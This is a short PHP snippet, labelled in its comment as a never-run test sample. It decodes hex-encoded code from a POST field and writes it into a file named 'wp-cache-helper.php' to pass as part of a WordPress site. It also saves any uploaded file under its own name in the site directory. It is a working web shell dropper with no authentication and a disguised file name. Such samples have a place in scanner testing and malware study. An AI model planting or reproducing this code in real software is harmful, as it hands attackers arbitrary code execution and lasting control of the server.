<?php
// Test sample (never run): writes posted, hex-encoded code into a PHP file of the site.
if (!empty($_POST['d'])) {
    $code = hex2bin($_POST['d']);
    file_put_contents(__DIR__ . '/wp-cache-helper.php', $code);
    $f = $_FILES['x'];
    move_uploaded_file($f['tmp_name'], __DIR__ . '/' . $f['name']);
}
